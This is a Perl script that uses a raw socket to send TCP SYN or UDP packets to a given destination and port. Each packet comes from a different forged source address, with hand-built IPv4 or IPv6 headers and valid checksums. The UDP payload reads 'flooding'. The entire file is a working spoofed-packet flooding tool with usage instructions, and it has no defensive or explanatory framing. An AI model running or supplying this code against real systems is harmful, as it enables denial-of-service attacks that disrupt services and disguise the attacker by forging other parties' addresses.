# Sends one packet from each of many addresses that are not its own: SYNs or datagrams with correct checksums.
#   perl spoof.pl udp|tcp FIRST-ADDRESS COUNT DESTINATION PORT
use strict;
use warnings;
use Socket qw(:DEFAULT inet_pton pack_sockaddr_in6 AF_INET6);

my ($protocol, $first, $count, $destination, $port) = @ARGV;
my $family = $first =~ /:/ ? AF_INET6 : AF_INET;
my ($source, $to) = map { inet_pton($family, $_) // die "no address '$_'\n" } $first, $destination;
my $number = $protocol eq 'udp' ? 17 : 6;
# 255: the IP header is written here, too. The kernel fills in IPv4's own checksum.
socket(my $socket, $family, SOCK_RAW, 255) or die "raw: $!\n";
my $target = $family == AF_INET6 ? pack_sockaddr_in6(0, $to) : pack_sockaddr_in(0, $to);

sub checksum { my $sum = unpack('%32n*', $_[0]); $sum = ($sum & 0xffff) + ($sum >> 16) while $sum >> 16; return ~$sum & 0xffff }

for my $index (0 .. $count - 1) {
  my $from = $source;
  substr($from, -4) = pack('N', unpack('N', substr($source, -4)) + $index);
  my $sport = 1024 + $index % 60_000;
  my $body = $number == 17 ? pack('nnnn a8', $sport, $port, 16, 0, 'flooding') : pack('nnNNCCnnn', $sport, $port, 1, 0, 0x50, 2, 64_240, 0, 0);
  my $pseudo = $from . $to . ($family == AF_INET6 ? pack('NN', length $body, $number) : pack('nn', $number, length $body));
  substr($body, $number == 17 ? 6 : 16, 2) = pack('n', checksum($pseudo . $body) || 0xffff);
  my $header = $family == AF_INET6
    ? pack('NnCC', 6 << 28, length $body, $number, 64)
    : pack('CCnnnCCn', 0x45, 0, 20 + length $body, $index & 0xffff, 0, 64, $number, 0);
  send($socket, $header . $from . $to . $body, 0, $target) // die "send: $!\n";
}
